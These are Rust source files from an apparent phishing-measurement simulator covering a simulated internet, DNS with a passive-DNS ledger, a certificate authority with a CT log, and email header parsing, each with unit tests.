    /// fresh datacenter address. Returns `false` if already registered.
    pub fn register_domain(&self, domain: &str, registrar: &str) -> bool {
        self.register_domain_at(domain, registrar, self.now())
    }

    /// Register with an explicit timestamp (corpus generation backdates
    /// registrations — the paper's median is 24 days before delivery).
    pub fn register_domain_at(&self, domain: &str, registrar: &str, when: SimTime) -> bool {
        let fresh = self.registry.write().register(domain, when, registrar);
        if fresh {
            let ip = self.ip_space.allocate(IpClass::Datacenter);
            self.dns.write().bind(domain, ip);
        }
        fresh
    }

    /// Mark a registered domain as a compromised legitimate site.
    pub fn mark_compromised(&self, domain: &str) -> bool {
        self.registry.write().mark_compromised(domain)
    }

    /// Issue a TLS certificate for `domain` now.
    pub fn issue_certificate(&self, domain: &str) -> Certificate {
        self.issue_certificate_at(domain, self.now())
    }

    /// Issue with an explicit timestamp.
    pub fn issue_certificate_at(&self, domain: &str, when: SimTime) -> Certificate {
        self.ca.write().issue(domain, when).clone()
    }

    /// WHOIS lookup.
    pub fn whois(&self, domain: &str) -> Option<WhoisRecord> {
        self.registry.read().lookup(domain).cloned()
    }

    /// First CT-log certificate for `domain`.
    pub fn first_certificate(&self, domain: &str) -> Option<Certificate> {
        self.ca.read().first_for(domain).cloned()
    }

    /// Attach a site handler to `domain`.
    pub fn host<H: SiteHandler + 'static>(&self, domain: &str, handler: H) {
        self.sites
            .write()
            .insert(DomainName::new(domain), Arc::new(handler));
    }

    /// Detach the site (take-down); DNS stays bound, requests 404.
    pub fn take_down(&self, domain: &str) -> bool {
        self.sites.write().remove(&DomainName::new(domain)).is_some()
    }

    /// Remove the DNS binding entirely (NXDOMAIN thereafter).
    pub fn unbind_dns(&self, domain: &str) -> bool {
        self.dns.write().unbind(domain)
    }

    /// Publish a Shodan-style service banner for a host (the enrichment
    /// source §IV-C names alongside WHOIS and Umbrella).
    pub fn set_banner(&self, domain: &str, banner: &str) {
        self.banners
            .write()
            .insert(DomainName::new(domain), banner.to_string());
    }

    /// The service banner Shodan-style scanning would report for `domain`.
    pub fn banner(&self, domain: &str) -> Option<String> {
        self.banners.read().get(&DomainName::new(domain)).cloned()
    }

    /// Record background DNS traffic for a domain (victim visits observed
    /// by the passive-DNS feed).
    pub fn record_dns_traffic(&self, domain: &str, when: SimTime, queries: u64) {
        self.passive_dns
            .write()
            .record(&DomainName::new(domain), when, queries);
    }

    /// Umbrella-style volume lookup.
    pub fn dns_volume(&self, domain: &str, end: SimTime, window: SimDuration) -> QueryVolume {
        self.passive_dns
            .read()
            .volume(&DomainName::new(domain), end, window)
    }

    /// The full enrichment bundle for `host`: WHOIS + first CT certificate
    /// + passive-DNS volume over `window` ending at `end` + service banner,
    /// exactly as the logging phase issues them individually. One call
    /// takes (and releases) each registry lock once, and the returned value
    /// is self-contained — safe to memoize by host for any fixed
    /// `(end, window)`.
    pub fn enrich(&self, host: &str, end: SimTime, window: SimDuration) -> HostEnrichment {
        let e = HostEnrichment {
            whois: self.whois(host),
            first_certificate: self.first_certificate(host),
            dns_volume: self.dns_volume(host, end, window),
            banner: self.banner(host),
        };
        // Registries are immutable during a scan, so this lookup — and
        // therefore the event — is deterministic per (host, end, window).
        cb_telemetry::with_active(|t| {
            t.instant(
                "net.enrich",
                vec![
                    ("host", host.to_string()),
                    ("whois", e.whois.is_some().to_string()),
                    ("ct", e.first_certificate.is_some().to_string()),
                    ("dns_total", e.dns_volume.total.to_string()),
                ],
            );
        });
        e
    }

    /// Issue a request: resolve DNS (recorded in the passive ledger),
    /// dispatch to the hosted site.
    ///
    /// * unresolvable name → status **0** (the "NXDomain error, page
    ///   unreachable" class of §V)
    /// * resolvable but unhosted → 404
    ///
    /// Transport-level injected faults surface as a status-0 response
    /// tagged with [`FAULT_HEADER`]; fault-aware clients should call
    /// [`Internet::try_request`] instead.
    pub fn request(&self, req: HttpRequest) -> HttpResponse {
        self.try_request(req).unwrap_or_else(|err| HttpResponse {
            status: 0,
            headers: vec![(FAULT_HEADER.to_string(), err.kind.label().to_string())],
            body: err.to_string().into_bytes(),
        })
    }

    /// Like [`Internet::request`], but transport-level injected faults
    /// (DNS timeout, connection reset, TLS failure, first-byte stall) come
    /// back as `Err(NetError)`. The fault decision happens **before** DNS
    /// resolution, passive-DNS recording and handler dispatch — a faulted
    /// request has no side effects, so a retry observes pristine state.
    pub fn try_request(&self, req: HttpRequest) -> Result<HttpResponse, NetError> {
        if let Some(plan) = self.fault_plan.read().as_ref() {
            if let Some(fate) = plan.decide(&req) {
                // `decide` is pure in (plan seed, URL, attempt), so fault
                // provenance is a deterministic trace field.
                cb_telemetry::with_active(|t| {
                    let kind = match &fate {
                        Err(e) => e.kind.label().to_string(),
                        Ok(resp) => resp
                            .headers
                            .iter()
                            .find(|(k, _)| k == FAULT_HEADER)
                            .map(|(_, v)| v.clone())
                            .unwrap_or_else(|| format!("http-{}", resp.status)),
                    };
                    t.instant(
                        "net.fault",
                        vec![
                            ("url", req.url.to_string()),
                            ("attempt", req.attempt.to_string()),
                            ("kind", kind),
                        ],
                    );
                });
                return fate;
            }
        }
        let domain = DomainName::new(&req.url.host);
        let now = self.now();
        if self.dns.read().resolve(domain.as_str()).is_err() {
            return Ok(HttpResponse {
                status: 0,
                headers: Vec::new(),
                body: b"NXDOMAIN".to_vec(),
            });
        }
        self.passive_dns.write().record(&domain, now, 1);
        let handler = self.sites.read().get(&domain).cloned();
        Ok(match handler {
            Some(h) => {
                let ctx = NetContext {
                    now,
                    client_class: IpSpace::classify(req.client_ip),
                    domain: &domain,
                };
                h.handle(&req, &ctx)
            }
            None => HttpResponse::not_found(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn static_site(body: &'static str) -> impl SiteHandler {
        move |_req: &HttpRequest, _ctx: &NetContext<'_>| HttpResponse::html(body)
    }

    #[test]
    fn end_to_end_request() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain("site.example", "REG");
        net.host("site.example", static_site("<html>hello</html>"));
        let resp = net.request(HttpRequest::get("https://site.example/"));
        assert_eq!(resp.status, 200);
        assert!(resp.body_text().contains("hello"));
    }

    #[test]
    fn unregistered_domain_is_unreachable() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        let resp = net.request(HttpRequest::get("https://ghost.example/"));
        assert_eq!(resp.status, 0);
    }

    #[test]
    fn registered_but_unhosted_is_404() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain("parked.example", "REG");
        assert_eq!(
            net.request(HttpRequest::get("https://parked.example/")).status,
            404
        );
    }

    #[test]
    fn take_down_and_unbind() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain("ephemeral.example", "REG");
        net.host("ephemeral.example", static_site("up"));
        assert_eq!(net.request(HttpRequest::get("https://ephemeral.example/")).status, 200);
        assert!(net.take_down("ephemeral.example"));
        assert_eq!(net.request(HttpRequest::get("https://ephemeral.example/")).status, 404);
        assert!(net.unbind_dns("ephemeral.example"));
        assert_eq!(net.request(HttpRequest::get("https://ephemeral.example/")).status, 0);
    }

    #[test]
    fn requests_feed_passive_dns() {
        let net = Internet::new(SimTime::from_ymd(2024, 2, 1));
        net.register_domain("watched.example", "REG");
        net.host("watched.example", static_site("x"));
        for _ in 0..5 {
            net.request(HttpRequest::get("https://watched.example/"));
        }
        let v = net.dns_volume("watched.example", net.now(), SimDuration::days(30));
        assert_eq!(v.total, 5);
        assert_eq!(v.max_per_day, 5);
    }

    #[test]
    fn handler_sees_client_class_and_time() {
        let net = Internet::new(SimTime::from_ymd(2024, 3, 1));
        net.register_domain("filter.example", "REG");
        net.host(
            "filter.example",
            |req: &HttpRequest, ctx: &NetContext<'_>| {
                let _ = req;
                if ctx.client_class == IpClass::Datacenter {
                    HttpResponse::forbidden()
                } else {
                    HttpResponse::html("welcome human")
                }
            },
        );
        let mut from_dc = HttpRequest::get("https://filter.example/");
        from_dc.client_ip = net.allocate_ip(IpClass::Datacenter);
        assert_eq!(net.request(from_dc).status, 403);
        let mut from_mobile = HttpRequest::get("https://filter.example/");
        from_mobile.client_ip = net.allocate_ip(IpClass::MobileCarrier);
        assert_eq!(net.request(from_mobile).status, 200);
    }

    #[test]
    fn banners_enrich_hosts() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.set_banner("kit.example", "nginx/1.24.0 (Ubuntu)");
        assert_eq!(net.banner("KIT.example").as_deref(), Some("nginx/1.24.0 (Ubuntu)"));
        assert_eq!(net.banner("other.example"), None);
    }

    #[test]
    fn whois_and_ct_queries() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        let reg_time = SimTime::from_ymd(2023, 12, 8);
        net.register_domain_at("planned.example", "REGRU-RU", reg_time);
        let cert_time = SimTime::from_ymd(2023, 12, 24);
        net.issue_certificate_at("planned.example", cert_time);
        assert_eq!(net.whois("planned.example").unwrap().registered_at, reg_time);
        assert_eq!(
            net.first_certificate("planned.example").unwrap().issued_at,
            cert_time
        );
    }

    #[test]
    fn enrich_bundles_the_individual_lookups() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        let reg_time = SimTime::from_ymd(2023, 12, 8);
        net.register_domain_at("bundle.example", "REGRU-RU", reg_time);
        net.issue_certificate_at("bundle.example", SimTime::from_ymd(2023, 12, 24));
        net.set_banner("bundle.example", "nginx/1.24.0");
        net.record_dns_traffic("bundle.example", SimTime::from_ymd(2023, 12, 30), 7);
        let end = SimTime::from_ymd(2024, 1, 1);
        let window = SimDuration::days(30);
        let e = net.enrich("bundle.example", end, window);
        assert_eq!(e.whois, net.whois("bundle.example"));
        assert_eq!(e.first_certificate, net.first_certificate("bundle.example"));
        assert_eq!(e.dns_volume, net.dns_volume("bundle.example", end, window));
        assert_eq!(e.banner.as_deref(), Some("nginx/1.24.0"));
        assert_eq!(e.dns_volume.total, 7);
        // An unknown host enriches to an all-empty bundle, not an error.
        let empty = net.enrich("ghost.example", end, window);
        assert!(empty.whois.is_none() && empty.first_certificate.is_none());
        assert!(empty.banner.is_none());
        assert_eq!(empty.dns_volume.total, 0);
    }

    #[test]
    fn faulted_requests_have_no_side_effects() {
        use crate::faults::FaultPlan;
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain("flaky.example", "REG");
        net.host("flaky.example", static_site("eventually"));
        net.set_fault_plan(FaultPlan::uniform(11, 1.0));
        assert!(net.fault_plan_active());
        // Attempt 0 always faults at rate 1.0; whatever the outcome shape,
        // the passive-DNS ledger must not have recorded the request.
        let mut req = HttpRequest::get("https://flaky.example/page");
        req.attempt = 0;
        let faulted = match net.try_request(req) {
            Err(_) => true,
            Ok(resp) => resp.header(FAULT_HEADER).is_some(),
        };
        assert!(faulted, "rate-1.0 plan faults the first attempt");
        assert_eq!(
            net.dns_volume("flaky.example", net.now(), SimDuration::days(1)).total,
            0,
            "faulted request left a passive-DNS trace"
        );
        // A late-enough attempt gets through and is recorded.
        let mut retry = HttpRequest::get("https://flaky.example/page");
        retry.attempt = 8;
        let resp = net.try_request(retry).expect("past max_consecutive");
        assert_eq!(resp.status, 200);
        assert_eq!(
            net.dns_volume("flaky.example", net.now(), SimDuration::days(1)).total,
            1
        );
        net.clear_fault_plan();
        assert!(!net.fault_plan_active());
        let resp = net.request(HttpRequest::get("https://flaky.example/page"));
        assert_eq!(resp.status, 200);
    }

    #[test]
    fn request_maps_net_errors_to_tagged_status_zero() {
        use crate::faults::FaultKind;
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain("reset.example", "REG");
        net.host("reset.example", static_site("up"));
        net.set_fault_plan(
            FaultPlan::uniform(1, 0.0).with_host(
                "reset.example",
                crate::faults::FaultProfile {
                    rate: 1.0,
                    kinds: vec![FaultKind::ConnectionReset],
                    ..Default::default()
                },
            ),
        );
        let resp = net.request(HttpRequest::get("https://reset.example/"));
        assert_eq!(resp.status, 0);
        assert_eq!(resp.header(FAULT_HEADER), Some("connection-reset"));
    }

    #[test]
    fn concurrent_requests_are_safe() {
        let net = Arc::new(Internet::new(SimTime::from_ymd(2024, 1, 1)));
        net.register_domain("busy.example", "REG");
        net.host("busy.example", static_site("ok"));
        let mut handles = Vec::new();
        for _ in 0..4 {
            let n = net.clone();
            handles.push(std::thread::spawn(move || {
                for _ in 0..50 {
                    assert_eq!(n.request(HttpRequest::get("https://busy.example/")).status, 200);
                }
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
        assert_eq!(
            net.dns_volume("busy.example", net.now(), SimDuration::days(1)).total,
            200
        );
    }
}
