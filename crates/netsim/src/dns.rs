//! DNS resolution and the passive-DNS ledger (Cisco Umbrella substitute).
//!
//! §V-A verifies the "low-volume targeted attacks" hypothesis by examining
//! per-domain DNS query volumes over the 30 days before message delivery.
//! [`PassiveDnsLedger`] records every resolution with its timestamp and
//! answers exactly the queries the paper asks: maximum queries per day and
//! total queries in a window.

use crate::ip::IpAddress;
use crate::url::DomainName;
use cb_sim::{SimDuration, SimTime};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// Per-domain volume summary over a window, mirroring the paper's Umbrella
/// metrics.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct QueryVolume {
    /// Maximum queries observed in any single day of the window.
    pub max_per_day: u64,
    /// Total queries in the window.
    pub total: u64,
}

/// Records every resolution (domain, day) with a count.
#[derive(Debug, Clone, Default)]
pub struct PassiveDnsLedger {
    counts: BTreeMap<(DomainName, i64), u64>,
}

impl PassiveDnsLedger {
    /// An empty ledger.
    pub fn new() -> Self {
        Self::default()
    }

    /// Record `n` queries for `domain` at `when`.
    pub fn record(&mut self, domain: &DomainName, when: SimTime, n: u64) {
        let day = when.as_unix().div_euclid(86_400);
        *self.counts.entry((domain.clone(), day)).or_insert(0) += n;
    }

    /// Volume summary for the `window` ending at `end` (the paper uses the
    /// 30 days before message reception).
    pub fn volume(&self, domain: &DomainName, end: SimTime, window: SimDuration) -> QueryVolume {
        let end_day = end.as_unix().div_euclid(86_400);
        // the window covers `window` whole days ending at (and including)
        // `end`'s day — exclusive of the day exactly `window` before
        let start_day = (end - window).as_unix().div_euclid(86_400) + 1;
        let mut max_per_day = 0;
        let mut total = 0;
        for (&(_, day), &n) in self
            .counts
            .range((domain.clone(), start_day)..=(domain.clone(), end_day))
        {
            let _ = day;
            max_per_day = max_per_day.max(n);
            total += n;
        }
        QueryVolume { max_per_day, total }
    }
}

/// Authoritative DNS: domain → address bindings.
#[derive(Debug, Clone, Default)]
pub struct DnsService {
    bindings: BTreeMap<DomainName, IpAddress>,
}

/// Resolution failure: NXDOMAIN.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NxDomain {
    /// The name that failed to resolve.
    pub domain: DomainName,
}

impl std::fmt::Display for NxDomain {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "NXDOMAIN: {}", self.domain)
    }
}

impl std::error::Error for NxDomain {}

impl DnsService {
    /// An empty zone.
    pub fn new() -> Self {
        Self::default()
    }

    /// Bind `domain` to `ip` (overwrites).
    pub fn bind(&mut self, domain: &str, ip: IpAddress) {
        self.bindings.insert(DomainName::new(domain), ip);
    }

    /// Remove a binding (site takedown / deactivation).
    pub fn unbind(&mut self, domain: &str) -> bool {
        self.bindings.remove(&DomainName::new(domain)).is_some()
    }

    /// Resolve a name.
    ///
    /// # Errors
    ///
    /// Returns [`NxDomain`] for unbound names.
    pub fn resolve(&self, domain: &str) -> Result<IpAddress, NxDomain> {
        let name = DomainName::new(domain);
        self.bindings.get(&name).copied().ok_or(NxDomain { domain: name })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bind_resolve_unbind() {
        let mut dns = DnsService::new();
        dns.bind("evil.example", IpAddress(1));
        assert_eq!(dns.resolve("EVIL.example"), Ok(IpAddress(1)));
        assert!(dns.unbind("evil.example"));
        assert!(dns.resolve("evil.example").is_err());
        assert!(!dns.unbind("evil.example"));
    }

    #[test]
    fn volume_windows() {
        let mut ledger = PassiveDnsLedger::new();
        let d = DomainName::new("quiet.example");
        let day0 = SimTime::from_ymd(2024, 3, 1);
        ledger.record(&d, day0, 5);
        ledger.record(&d, day0 + SimDuration::days(10), 30);
        ledger.record(&d, day0 + SimDuration::days(10), 12); // same day accumulates
        ledger.record(&d, day0 + SimDuration::days(40), 100); // outside 30d window

        let v = ledger.volume(&d, day0 + SimDuration::days(29), SimDuration::days(30));
        assert_eq!(v.total, 47);
        assert_eq!(v.max_per_day, 42);
    }

    #[test]
    fn volume_of_unknown_domain_is_zero() {
        let ledger = PassiveDnsLedger::new();
        let v = ledger.volume(
            &DomainName::new("ghost.example"),
            SimTime::from_ymd(2024, 1, 1),
            SimDuration::days(30),
        );
        assert_eq!(v, QueryVolume { max_per_day: 0, total: 0 });
    }

    #[test]
    fn volumes_are_per_domain() {
        let mut ledger = PassiveDnsLedger::new();
        let a = DomainName::new("a.example");
        let b = DomainName::new("b.example");
        let t = SimTime::from_ymd(2024, 5, 5);
        ledger.record(&a, t, 7);
        ledger.record(&b, t, 3);
        assert_eq!(ledger.volume(&a, t, SimDuration::days(1)).total, 7);
        assert_eq!(ledger.volume(&b, t, SimDuration::days(1)).total, 3);
    }

    #[test]
    fn window_boundaries_inclusive_of_end_day() {
        let mut ledger = PassiveDnsLedger::new();
        let d = DomainName::new("x.example");
        let t = SimTime::from_ymd_hms(2024, 6, 1, 23, 0, 0);
        ledger.record(&d, t, 9);
        // query at an earlier hour of the same day still sees the count
        let v = ledger.volume(
            &DomainName::new("x.example"),
            SimTime::from_ymd_hms(2024, 6, 1, 1, 0, 0),
            SimDuration::days(30),
        );
        assert_eq!(v.total, 9);
    }
}

#[cfg(test)]
mod review_regressions {
    use super::*;

    #[test]
    fn thirty_day_window_spans_exactly_thirty_days() {
        let mut ledger = PassiveDnsLedger::new();
        let d = DomainName::new("w.example");
        let end = SimTime::from_ymd_hms(2024, 6, 30, 12, 0, 0);
        // exactly 30 days before `end`: outside the window
        ledger.record(&d, end - SimDuration::days(30), 1000);
        assert_eq!(ledger.volume(&d, end, SimDuration::days(30)).total, 0);
        // 29 days before: inside
        ledger.record(&d, end - SimDuration::days(29), 7);
        assert_eq!(ledger.volume(&d, end, SimDuration::days(30)).total, 7);
        // the end day itself: inside
        ledger.record(&d, end, 3);
        assert_eq!(ledger.volume(&d, end, SimDuration::days(30)).total, 10);
    }
}
