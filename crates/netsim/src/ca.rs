//! Certificate authority and Certificate Transparency log.
//!
//! Figure 3's `timedeltaB` measures TLS-certificate issuance time against
//! message delivery; prior work the paper cites scanned CT logs for
//! deceptive domain names. The CA issues 90-day certificates (the ACME
//! norm) and appends every issuance to an ordered CT log.

use crate::url::DomainName;
use cb_sim::{SimDuration, SimTime};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// Standard ACME-style validity window.
pub const VALIDITY: SimDuration = SimDuration::days(90);

/// An issued leaf certificate.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Certificate {
    /// Serial number (CT log index + 1).
    pub serial: u64,
    /// Subject domain.
    pub domain: DomainName,
    /// Issuance instant (`notBefore`).
    pub issued_at: SimTime,
    /// Expiry instant (`notAfter`).
    pub not_after: SimTime,
}

impl Certificate {
    /// `true` if the certificate is valid at `t`.
    pub fn valid_at(&self, t: SimTime) -> bool {
        t >= self.issued_at && t < self.not_after
    }
}

/// The simulated CA with its transparency log.
#[derive(Debug, Clone, Default)]
pub struct CertificateAuthority {
    log: Vec<Certificate>,
    latest: BTreeMap<DomainName, usize>,
}

impl CertificateAuthority {
    /// A CA with an empty log.
    pub fn new() -> Self {
        Self::default()
    }

    /// Issue a certificate for `domain` at `when`, appending to the CT log.
    pub fn issue(&mut self, domain: &str, when: SimTime) -> &Certificate {
        let name = DomainName::new(domain);
        let cert = Certificate {
            serial: self.log.len() as u64 + 1,
            domain: name.clone(),
            issued_at: when,
            not_after: when + VALIDITY,
        };
        self.log.push(cert);
        self.latest.insert(name, self.log.len() - 1);
        self.log.last().expect("just pushed")
    }

    /// The most recently issued certificate for `domain`.
    pub fn latest_for(&self, domain: &str) -> Option<&Certificate> {
        self.latest
            .get(&DomainName::new(domain))
            .map(|&i| &self.log[i])
    }

    /// The *first* issuance for `domain` — what CT-log-based timeline
    /// analysis actually measures.
    pub fn first_for(&self, domain: &str) -> Option<&Certificate> {
        let name = DomainName::new(domain);
        self.log.iter().find(|c| c.domain == name)
    }

    /// The full CT log in issuance order.
    pub fn ct_log(&self) -> &[Certificate] {
        &self.log
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn issue_and_lookup() {
        let mut ca = CertificateAuthority::new();
        let t = SimTime::from_ymd(2024, 1, 10);
        ca.issue("evil.example", t);
        let c = ca.latest_for("EVIL.example").unwrap();
        assert_eq!(c.issued_at, t);
        assert_eq!(c.not_after, t + VALIDITY);
        assert_eq!(c.serial, 1);
    }

    #[test]
    fn validity_window() {
        let mut ca = CertificateAuthority::new();
        let t = SimTime::from_ymd(2024, 1, 10);
        let c = ca.issue("x.example", t).clone();
        assert!(!c.valid_at(t - SimDuration::seconds(1)));
        assert!(c.valid_at(t));
        assert!(c.valid_at(t + SimDuration::days(89)));
        assert!(!c.valid_at(t + SimDuration::days(90)));
    }

    #[test]
    fn renewal_tracks_first_and_latest() {
        let mut ca = CertificateAuthority::new();
        let t1 = SimTime::from_ymd(2023, 10, 1);
        let t2 = SimTime::from_ymd(2024, 1, 1);
        ca.issue("site.example", t1);
        ca.issue("site.example", t2);
        assert_eq!(ca.first_for("site.example").unwrap().issued_at, t1);
        assert_eq!(ca.latest_for("site.example").unwrap().issued_at, t2);
    }

    #[test]
    fn ct_log_preserves_order() {
        let mut ca = CertificateAuthority::new();
        ca.issue("a.example", SimTime::from_ymd(2024, 1, 1));
        ca.issue("b.example", SimTime::from_ymd(2024, 1, 2));
        let serials: Vec<u64> = ca.ct_log().iter().map(|c| c.serial).collect();
        assert_eq!(serials, [1, 2]);
    }

    #[test]
    fn unknown_domain_has_no_certificate() {
        assert!(CertificateAuthority::new().latest_for("x.example").is_none());
    }
}
