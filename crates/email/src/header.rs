//! Message header block: parsing, folding/unfolding, ordered multi-map.
//!
//! Header field names are case-insensitive; values may be *folded* across
//! lines (continuation lines start with whitespace, RFC 5322 §2.2.3). The
//! paper's taxonomy notes "email header manipulation" as a stage-1 evasion
//! tactic, so the map preserves order and duplicates — exactly what arrived
//! on the wire.

use std::fmt;

/// An ordered, case-insensitive multi-map of header fields.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct HeaderMap {
    fields: Vec<(String, String)>,
}

/// Errors from parsing a header block.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ParseHeaderError {
    /// A line had no `:` separator and was not a continuation.
    MissingColon {
        /// Zero-based line number of the offending line.
        line: usize,
    },
    /// A header field name contained an illegal character.
    InvalidFieldName {
        /// Zero-based line number of the offending line.
        line: usize,
        /// The illegal byte.
        byte: u8,
    },
    /// The first line of the block was a continuation line.
    LeadingContinuation,
}

impl fmt::Display for ParseHeaderError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ParseHeaderError::MissingColon { line } => {
                write!(f, "header line {line} has no colon")
            }
            ParseHeaderError::InvalidFieldName { line, byte } => {
                write!(f, "header line {line} has invalid name byte 0x{byte:02x}")
            }
            ParseHeaderError::LeadingContinuation => {
                write!(f, "header block starts with a continuation line")
            }
        }
    }
}

impl std::error::Error for ParseHeaderError {}

impl HeaderMap {
    /// An empty header map.
    pub fn new() -> Self {
        Self::default()
    }

    /// Parse a header block (everything before the blank line separating
    /// headers from body). Folded lines are unfolded with a single space.
    ///
    /// Thin materializing wrapper over [`crate::view::HeaderIter`]: the
    /// borrowed iterator does the line walk and validation; this collects
    /// each field into owned strings.
    ///
    /// # Errors
    ///
    /// Returns [`ParseHeaderError`] on malformed lines.
    pub fn parse(block: &str) -> Result<Self, ParseHeaderError> {
        let mut map = HeaderMap::new();
        for field in crate::view::HeaderIter::new(block) {
            let field = field?;
            map.fields
                .push((field.name().to_string(), field.value().into_owned()));
        }
        Ok(map)
    }

    /// Append a field, preserving insertion order.
    pub fn append(&mut self, name: &str, value: &str) {
        self.fields.push((name.to_string(), value.to_string()));
    }

    /// First value for `name` (case-insensitive), if present.
    pub fn get(&self, name: &str) -> Option<&str> {
        self.fields
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    /// All values for `name`, in order of appearance.
    pub fn get_all<'a>(&'a self, name: &'a str) -> impl Iterator<Item = &'a str> {
        self.fields
            .iter()
            .filter(move |(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    /// `true` if a field named `name` exists.
    pub fn contains(&self, name: &str) -> bool {
        self.get(name).is_some()
    }

    /// Number of fields (counting duplicates).
    pub fn len(&self) -> usize {
        self.fields.len()
    }

    /// `true` if the map holds no fields.
    pub fn is_empty(&self) -> bool {
        self.fields.is_empty()
    }

    /// Iterate `(name, value)` pairs in wire order.
    pub fn iter(&self) -> impl Iterator<Item = (&str, &str)> {
        self.fields.iter().map(|(n, v)| (n.as_str(), v.as_str()))
    }

    /// Serialize back to wire format with CRLF line endings, folding long
    /// values at 78 columns.
    pub fn to_wire(&self) -> String {
        let mut out = String::new();
        for (name, value) in &self.fields {
            let line = format!("{name}: {value}");
            if line.len() <= 78 {
                out.push_str(&line);
                out.push_str("\r\n");
            } else {
                // naive folding on spaces
                let mut col = 0usize;
                for (i, word) in line.split(' ').enumerate() {
                    if i > 0 {
                        if col + 1 + word.len() > 78 {
                            out.push_str("\r\n ");
                            col = 1;
                        } else {
                            out.push(' ');
                            col += 1;
                        }
                    }
                    out.push_str(word);
                    col += word.len();
                }
                out.push_str("\r\n");
            }
        }
        out
    }
}

impl FromIterator<(String, String)> for HeaderMap {
    fn from_iter<T: IntoIterator<Item = (String, String)>>(iter: T) -> Self {
        HeaderMap {
            fields: iter.into_iter().collect(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_basic_block() {
        let h = HeaderMap::parse("From: a@x.example\r\nTo: b@y.example\r\nSubject: hi").unwrap();
        assert_eq!(h.get("from"), Some("a@x.example"));
        assert_eq!(h.get("SUBJECT"), Some("hi"));
        assert_eq!(h.len(), 3);
    }

    #[test]
    fn folded_value_unfolds() {
        let h = HeaderMap::parse("Subject: a very\r\n long subject\r\n\tfolded twice").unwrap();
        assert_eq!(h.get("Subject"), Some("a very long subject folded twice"));
    }

    #[test]
    fn duplicate_received_headers_kept_in_order() {
        let h = HeaderMap::parse("Received: hop2\r\nReceived: hop1").unwrap();
        let all: Vec<_> = h.get_all("Received").collect();
        assert_eq!(all, vec!["hop2", "hop1"]);
    }

    #[test]
    fn missing_colon_is_error() {
        assert_eq!(
            HeaderMap::parse("this is not a header"),
            Err(ParseHeaderError::MissingColon { line: 0 })
        );
    }

    #[test]
    fn leading_continuation_is_error() {
        assert_eq!(
            HeaderMap::parse(" folded from nothing"),
            Err(ParseHeaderError::LeadingContinuation)
        );
    }

    #[test]
    fn invalid_name_byte_is_error() {
        let err = HeaderMap::parse("Bad Name: value").unwrap_err();
        assert!(matches!(err, ParseHeaderError::InvalidFieldName { .. }));
    }

    #[test]
    fn wire_round_trip() {
        let mut h = HeaderMap::new();
        h.append("From", "a@x.example");
        h.append("Subject", "short");
        let reparsed = HeaderMap::parse(&h.to_wire()).unwrap();
        assert_eq!(h, reparsed);
    }

    #[test]
    fn long_header_folds_and_unfolds() {
        let mut h = HeaderMap::new();
        let long = "word ".repeat(40);
        h.append("X-Long", long.trim());
        let wire = h.to_wire();
        assert!(wire.split("\r\n").all(|l| l.len() <= 78));
        let reparsed = HeaderMap::parse(&wire).unwrap();
        assert_eq!(reparsed.get("X-Long"), Some(long.trim()));
    }

    #[test]
    fn lf_only_input_accepted() {
        let h = HeaderMap::parse("A: 1\nB: 2\n").unwrap();
        assert_eq!(h.get("B"), Some("2"));
    }

    #[test]
    fn name_with_trailing_space_before_colon_is_rejected() {
        // RFC 5322 §3.6.8: ftext excludes WSP, so `"Subject : x"` is a
        // malformed name, not a field named "Subject " or "Subject".
        assert_eq!(
            HeaderMap::parse("Subject : trailing space"),
            Err(ParseHeaderError::InvalidFieldName { line: 0, byte: b' ' })
        );
    }

    #[test]
    fn name_with_trailing_tab_before_colon_is_rejected() {
        assert_eq!(
            HeaderMap::parse("From: a@x.example\r\nSubject\t: tabbed"),
            Err(ParseHeaderError::InvalidFieldName { line: 1, byte: b'\t' })
        );
    }
}
