//! Email authentication results: SPF, DKIM, DMARC.
//!
//! The paper's striking finding (§V-C1): **all** user-reported malicious
//! messages passed the three authentication methods — attackers send from
//! legitimate, compromised, or purpose-made accounts whose infrastructure is
//! properly configured. We model the verdict triple and a simplified
//! evaluator over the message's envelope: SPF checks that the sending IP is
//! authorized for the envelope domain, DKIM that the signature domain signed
//! the body, DMARC that one of the two aligns with the `From:` domain.

use crate::EmailAddress;
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;
use std::fmt;

/// One mechanism's verdict.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum AuthVerdict {
    /// The check passed.
    Pass,
    /// The check failed.
    Fail,
    /// The domain publishes no policy for this mechanism.
    None,
}

impl fmt::Display for AuthVerdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            AuthVerdict::Pass => "pass",
            AuthVerdict::Fail => "fail",
            AuthVerdict::None => "none",
        })
    }
}

/// The SPF + DKIM + DMARC result triple for one message.
